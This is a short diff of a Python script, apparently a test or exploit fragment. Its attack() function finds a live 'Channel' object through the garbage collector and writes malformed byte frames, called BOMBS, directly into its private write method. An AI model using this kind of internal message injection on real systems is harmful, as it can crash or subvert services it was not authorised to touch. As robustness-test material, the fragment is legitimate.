@@ -6,7 +6,7 @@ Says: no answer
 import gc
 import itertools
 
-server = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Server")
+channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == "Channel")
 BOMBS = itertools.cycle(
     [
         b"\xff" * 4 + bytes(4),
@@ -20,5 +20,5 @@ BOMBS = itertools.cycle(
 
 
 def attack(*args, **kwargs):
-    server._channel._write(next(BOMBS))
-    server._channel.receive()
+    channel._write(next(BOMBS))
+    channel.receive()
